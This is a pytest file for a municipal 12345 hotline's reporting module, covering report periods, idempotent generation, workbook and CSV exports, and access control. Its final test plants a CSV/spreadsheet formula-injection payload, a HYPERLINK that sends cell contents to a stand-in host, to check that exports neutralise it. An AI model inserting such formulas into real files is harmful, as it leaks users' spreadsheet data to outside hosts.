"""Daily, weekly and monthly reports: once per period, idempotent, the figures of hotline.indicators.stats,
and the workbooks and CSV files the pages hand out."""

import io
from datetime import date

import pytest
from openpyxl import load_workbook
from sqlmodel import select

from hotline import directory
from hotline.errors import Invalid
from hotline.indicators import metrics, periods, reports, stats
from hotline.indicators.periods import Period
from hotline.indicators.reports import generate_due_reports
from hotline.models import Report
from tests.conftest import local
from tests.helpers import PASSWORD, make_dispatched, sign_in
from tests.test_stats import as_, november, replied_in_october  # noqa: F401  (the hand-built November of test_stats)

NOV = {"from": "2026-11-01", "to": "2026-11-30"}
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def _reports(runtime) -> list[tuple[str, date, date, str]]:
    with runtime.db.read_session() as s:
        rows = s.exec(select(Report).order_by(Report.kind, Report.period_start)).all()
        return [(r.kind, r.period_start, r.period_end, r.title) for r in rows]


def test_titles_and_periods():
    assert periods.last_ended("daily", date(2026, 11, 28)) == Period(date(2026, 11, 27), date(2026, 11, 27), "daily")
    # ISO weeks run Monday to Sunday; 2026-11-28 is a Saturday of week 48.
    assert periods.last_ended("weekly", date(2026, 11, 28)) == Period(date(2026, 11, 16), date(2026, 11, 22), "weekly")
    assert periods.last_ended("monthly", date(2026, 3, 1)) == Period(date(2026, 2, 1), date(2026, 2, 28), "monthly")
    assert periods.last_ended("monthly", date(2026, 1, 15)).start == date(2025, 12, 1)
    day, week, month = (periods.last_ended(k, date(2026, 11, 28)) for k in reports.KINDS)
    assert reports.report_title("daily", day) == "12345热线工作日报（2026年11月27日）"
    assert reports.report_title("weekly", week) == "12345热线工作周报（2026年第47周，11月16日—11月22日）"
    assert reports.report_title("monthly", month) == "12345热线工作月报（2026年10月）"


def test_each_period_once_and_none_before_it_is_over(runtime, district):
    make_dispatched(runtime, 3, now=local(2026, 11, 2, 10, 0))
    # Tuesday 00:30: Monday is over, so is the week to Sunday 1 November and October.
    made = generate_due_reports(runtime, local(2026, 11, 3, 0, 30))
    assert sorted((r.kind, r.period_start) for r in made) == [
        ("daily", date(2026, 11, 2)),
        ("monthly", date(2026, 10, 1)),
        ("weekly", date(2026, 10, 26)),
    ]
    assert generate_due_reports(runtime, local(2026, 11, 3, 0, 31)) == []  # idempotent
    # Late on Tuesday: Tuesday is not over yet, nor the week, nor November.
    assert generate_due_reports(runtime, local(2026, 11, 3, 23, 59, 59)) == []
    assert len(_reports(runtime)) == 3
    # Thursday: the scheduler was down on Wednesday; both Tuesday and Wednesday are written.
    made = generate_due_reports(runtime, local(2026, 11, 5, 8, 0))
    assert [(r.kind, r.period_start) for r in made] == [("daily", date(2026, 11, 3)), ("daily", date(2026, 11, 4))]
    assert ("daily", date(2026, 11, 2), date(2026, 11, 2), "12345热线工作日报（2026年11月2日）") in _reports(runtime)
    with runtime.db.read_session() as s:
        monday = s.exec(select(Report).where(Report.kind == "daily", Report.period_start == date(2026, 11, 2))).one()
        tuesday = s.exec(select(Report).where(Report.kind == "daily", Report.period_start == date(2026, 11, 3))).one()
    assert monday.data["totals"]["tickets"] == 3 and tuesday.data["totals"]["tickets"] == 0
    assert monday.data["totals"]["previous"] == 0 and monday.data["volume"]["type"][0]["label"] == "投诉"
    housing = next(r for r in monday.data["performance"]["departments"] if r["department"] == "housing")
    assert housing["dispatched"] == 3


def test_a_centre_without_a_ticket_yet_gets_no_report(runtime, district):
    """A fresh install being set up: no report of periods before it took a ticket, under a
    district name not yet set; the first ticket's next sweep writes the periods due."""
    assert generate_due_reports(runtime, local(2026, 11, 3, 0, 30)) == []
    assert _reports(runtime) == []
    make_dispatched(runtime, 1, now=local(2026, 11, 3, 9, 0))
    assert len(generate_due_reports(runtime, local(2026, 11, 3, 9, 1))) == 3


def test_a_second_scheduler_that_wins_the_race_is_no_error(runtime, district, monkeypatch):
    """Two schedulers compute the same report; the unique key lets one write it, the other skips."""
    real = reports.report_data

    def racing(session, rt, kind, period, now):
        data = real(session, rt, kind, period, now)
        if kind == "daily":  # the other scheduler writes its copy first
            assert reports._store(rt, kind, period, {"other": True}, now) is not None
        return data

    monkeypatch.setattr(reports, "report_data", racing)
    make_dispatched(runtime, 1, now=local(2026, 11, 2, 10, 0))
    made = generate_due_reports(runtime, local(2026, 11, 3, 0, 30))
    assert sorted(r.kind for r in made) == ["monthly", "weekly"]
    with runtime.db.read_session() as s:
        daily = s.exec(select(Report).where(Report.kind == "daily")).all()
    assert [r.data for r in daily] == [{"other": True}]
    monday = periods.period_of("daily", date(2026, 11, 2))
    assert reports._store(runtime, "daily", monday, {}, local(2026, 11, 3)) is None


def test_the_monthly_report_holds_the_figures_of_department_stats(runtime, clock, november):  # noqa: F811
    clock.set(local(2026, 12, 1, 0, 5))
    made = generate_due_reports(runtime, clock())
    monthly = next(r for r in made if r.kind == "monthly")
    assert (monthly.period_start, monthly.period_end) == (date(2026, 11, 1), date(2026, 11, 30))
    assert monthly.title == "12345热线工作月报（2026年11月）"
    with runtime.db.read_session() as s:
        expected = stats.department_stats(s, runtime, date(2026, 11, 1), date(2026, 11, 30))
        stored = s.get(Report, monthly.id).data
    assert stored["performance"] == expected
    housing = next(r for r in stored["performance"]["departments"] if r["department"] == "housing")
    assert (housing["signed_on_time_rate"], housing["score"], housing["rank"]) == (0.6, 66.92, 1)
    assert stored["totals"]["tickets"] == 6  # t1..t6, the unreasonable one included: it was a call
    assert stored["district"] == runtime.settings.district_name
    assert stored["kind"] == "monthly" and stored["from"] == "2026-11-01" and stored["to"] == "2026-11-30"


def _login(client, username: str) -> None:
    r = sign_in(client, username, PASSWORD)
    assert r.status_code == 303, r.text


def _sheet_rows(ws) -> list[list]:
    return [list(row) for row in ws.iter_rows(values_only=True)]


def test_the_report_workbook(runtime, clock, client, november):  # noqa: F811
    clock.set(local(2026, 12, 1, 0, 5))
    with runtime.db.session() as s:
        directory.set_district(s, name="青山区", region_code=None, now=clock())
    runtime.invalidate_district()
    monthly = next(r for r in generate_due_reports(runtime, clock()) if r.kind == "monthly")
    _login(client, "supervisor")
    r = client.get(f"/reports/{monthly.id}.xlsx")
    assert r.status_code == 200 and r.headers["content-type"] == XLSX
    assert "filename*=UTF-8''12345" in r.headers["content-disposition"]
    wb = load_workbook(io.BytesIO(r.content))
    assert wb.sheetnames[:4] == ["概况", "绩效考核", "诉求类型", "问题分类"]
    more = {"街道", "社区", "每日受理", "时段分布", "热点问题", "热点社区", "突发聚集", "重复诉求"}
    assert more <= set(wb.sheetnames)
    ws = wb["绩效考核"]
    assert ws["A1"].value == "青山区12345热线工作月报（2026年11月）"  # the district of the database
    assert ws["A1"].font.bold
    assert "2026-11-01 至 2026-11-30" in ws["A2"].value
    headers = [c.value for c in ws[3]]
    assert headers == ["排名", "承办单位", "派单量", *(rate.label for rate in metrics.RATES), "综合得分"]
    assert all(c.font.bold for c in ws[3])
    assert ws.freeze_panes == "A4"
    housing = next(row for row in ws.iter_rows(min_row=4) if row[1].value == "区住建局")
    assert housing[0].value == 1 and housing[2].value == 5
    assert housing[3].value == 0.6 and housing[3].number_format == "0.0%"
    assert housing[11].value == 66.92
    assert ws.column_dimensions["B"].width >= 20
    types = _sheet_rows(wb["诉求类型"])
    assert types[2] == ["诉求类型", "本期件数", "占比", "上期件数", "环比增减"]
    assert types[3][:2] == ["投诉", 6]
    # A leader's copy: the ranking only, with the other departments' figures left out.
    client.cookies.clear()
    _login(client, "housing_l")
    wb = load_workbook(io.BytesIO(client.get(f"/reports/{monthly.id}.xlsx").content))
    assert wb.sheetnames == ["绩效考核"]
    rows = {row[1]: row for row in _sheet_rows(wb["绩效考核"])[3:] if row[1]}
    assert rows["区住建局"][2] == 5 and rows["区城管局"][2] == "—"


def test_board_exports(client, november):  # noqa: F811
    _login(client, "supervisor")
    r = client.get("/performance/export.csv", params={"month": "2026-11"})
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    assert r.content.startswith(b"\xef\xbb\xbf")  # the BOM that makes Excel read UTF-8
    lines = r.content.decode("utf-8-sig").splitlines()
    assert lines[0].split(",")[:4] == ["排名", "承办单位", "派单量", "及时签收率"]
    housing = next(line.split(",") for line in lines if "区住建局" in line)
    assert housing[:4] == ["1", "区住建局", "5", "60.0%"] and housing[-1] == "66.92"
    assert lines[-1].startswith(",全区合计,6,")
    r = client.get("/performance/export.xlsx", params={"month": "2026-11"})
    ws = load_workbook(io.BytesIO(r.content))["绩效考核"]
    assert ws["A1"].value.endswith("承办单位绩效考核（2026年11月，截至20日）")
    total = next(row for row in ws.iter_rows(min_row=4) if row[1].value == "全区合计")
    assert total[2].value == 6 and total[2].font.bold


def test_analysis_exports(client, november):  # noqa: F811
    _login(client, "supervisor")
    r = client.get("/analysis/export.xlsx", params={"from": "2026-11-01", "to": "2026-11-30"})
    wb = load_workbook(io.BytesIO(r.content))
    assert wb.sheetnames == [
        *("诉求类型", "问题分类", "街道", "社区", "每日受理", "时段分布"),
        *("热点问题", "热点社区", "突发聚集", "话务时段", "坐席工作量", "各热线话务", "重复诉求", "热词"),
    ]
    ws = wb["问题分类"]
    assert [c.value for c in ws[3]] == ["问题分类", "本期件数", "占比", "上期件数", "环比增减"]
    assert [c.value for c in ws[4]][:3] == ["物业管理", 6, 1] and ws["C4"].number_format == "0.0%"
    r = client.get("/analysis/export.csv", params={"table": "type", "month": "2026-11"})
    lines = r.content.decode("utf-8-sig").splitlines()
    assert lines[:2] == ["诉求类型,本期件数,占比,上期件数,环比增减", "投诉,6,100.0%,0,"]


@pytest.mark.parametrize("path", ["/performance", "/analysis", "/reports", "/performance/export.xlsx"])
def test_only_supervisors_admins_and_leaders(client, district, path):
    _login(client, "agent")
    assert client.get(path).status_code == 403
    client.cookies.clear()
    _login(client, "housing_h")
    assert client.get(path).status_code == 403
    client.cookies.clear()
    assert client.get(path, follow_redirects=False).status_code == 303  # to the sign-in page
    _login(client, "admin")
    assert client.get(path).status_code == 200


def test_a_leader_sees_only_their_own_tickets_behind_a_figure(client, november):  # noqa: F811
    _login(client, "housing_l")
    q = {"metric": "overdue", "from": "2026-11-01", "to": "2026-11-30"}
    assert client.get("/performance/tickets", params={"department": "housing", **q}).status_code == 200
    assert client.get("/performance/tickets", params={"department": "urban", **q}).status_code == 403
    r = client.get("/performance", params={"month": "2026-11"})
    assert "60.0%" in r.text and "3/5" in r.text


def test_the_board_prints_each_rate_over_its_own_fraction(client, november, replied_in_october):  # noqa: F811
    """回访率: of the tickets replied in November (4), those reached (3), whatever the callbacks
    of November for tickets replied before (October's one is a fourth callback)."""
    _login(client, "supervisor")
    html = client.get("/performance", params={"month": "2026-11"}).text
    housing = html[html.index('data-department="housing"') :]
    cell = housing[housing.index('data-rate="callback_rate"') : housing.index("</td>", housing.index("callback_rate"))]
    assert "75.0%" in cell and '<span class="pf-frac">3/4</span>' in cell
    assert "metric=replied_called_back&amp;" in cell
    r = client.get("/performance/tickets", params={"department": "housing", "metric": "replied_called_back", **NOV})
    assert r.status_code == 200 and "答复后已回访 3 件" in r.text
    lines = client.get("/performance/export.csv", params={"month": "2026-11"}).content.decode("utf-8-sig").splitlines()
    header = lines[0].split(",")
    housing_row = next(line.split(",") for line in lines if "区住建局" in line)
    assert housing_row[header.index("回访率")] == "75.0%"


def test_one_period_parser():
    today = date(2026, 11, 20)
    assert periods.parse(today) == Period(date(2026, 11, 1), today, "monthly", partial=True)
    assert periods.parse(today).label == "2026年11月（截至20日）"
    assert periods.parse(today, month="2026-10") == Period(date(2026, 10, 1), date(2026, 10, 31), "monthly")
    assert periods.parse(today, week="2026-W47") == Period(date(2026, 11, 16), today, "weekly", partial=True)
    assert periods.parse(today, start="2026-11-10", end="2026-12-31") == Period(date(2026, 11, 10), today)
    assert periods.parse(today, start="2026-10-10") == Period(date(2026, 10, 10), today)
    assert periods.parse(today, end="2026-11-05") == Period(date(2026, 11, 1), date(2026, 11, 5))
    # from/to over a week over a month; an empty parameter is no parameter
    assert periods.parse(today, month="2026-10", week="2026-W40", start="2026-11-02", end="2026-11-03").kind == "range"
    assert periods.parse(today, month="", week="2026-W40").kind == "weekly"
    assert periods.parse(today, month="2026-10").query == "month=2026-10"
    assert periods.parse(today, week="2026-W47").query == "week=2026-W47"
    refused = [
        ({"month": "2026-1"}, "month", "没有这个月份：2026-1"),
        ({"week": "2026-W99"}, "week", "没有这一周：2026-W99"),
        ({"week": "2026-W49"}, "week", "所选时段尚未开始"),
        ({"start": "2026/11/01"}, "from", "日期格式不正确：2026/11/01"),
        ({"end": "2026-02-30"}, "to", "日期格式不正确：2026-02-30"),
        ({"start": "2026-11-21"}, "from", "所选时段尚未开始"),
        ({"start": "2026-11-10", "end": "2026-11-09"}, "to", "结束日期早于开始日期"),
        ({"start": "2023-01-01", "end": "2026-11-01"}, "from", "统计时段最长三年"),
    ]
    for query, field, zh in refused:
        with pytest.raises(Invalid) as e:
            periods.parse(today, **query)
        assert (e.value.status_code, e.value.field, e.value.extra["zh"]) == (422, field, zh), query


def test_bad_periods_are_refused_plainly(client, district):
    _login(client, "supervisor")
    r = client.get("/performance", params={"from": "2026-11-30", "to": "2026-11-01"})
    assert r.status_code == 422 and "结束日期早于开始日期" in r.text
    r = client.get("/performance", params={"month": "11/2026"})
    assert r.status_code == 422 and "没有这个月份：11/2026" in r.text
    r = client.get("/analysis", params={"week": "2026-45"})
    assert r.status_code == 422 and "没有这一周：2026-45" in r.text
    assert client.get("/analysis", params={"month": "2026-13"}).status_code == 422
    assert client.get("/analysis", params={"month": "2027-01"}).status_code == 422  # not begun
    assert client.get("/performance", params={"week": "2026-W53"}).status_code == 422  # 2026 has 52
    assert client.get("/performance", params={"week": "2026-W45"}).status_code == 200


def test_exports_write_formulas_as_text(client, runtime, november):  # noqa: F811
    """A name that begins like a formula reaches the spreadsheet as the text it is."""
    from hotline.models import Department

    evil = '=HYPERLINK("http://example.invalid/?q="&A1,"点我")'
    with runtime.db.session() as s:
        housing = s.exec(select(Department).where(Department.code == "housing")).one()
        housing.name = evil
        s.add(housing)
    _login(client, "supervisor")
    lines = client.get("/performance/export.csv", params={"month": "2026-11"}).content.decode("utf-8-sig")
    assert "'=HYPERLINK(" in lines and "\n=HYPERLINK" not in lines and ",=HYPERLINK" not in lines
    content = client.get("/performance/export.xlsx", params={"month": "2026-11"}).content
    ws = load_workbook(io.BytesIO(content))["绩效考核"]
    cell = next(row[1] for row in ws.iter_rows(min_row=4) if row[1].value == evil)
    assert cell.data_type == "s"  # a string, not a formula
    import zipfile

    sheet = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    for text in ("+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert reports.neutral(text) == "'" + text
    assert reports.neutral("普通文本") == "普通文本" and reports.neutral(-3) == -3
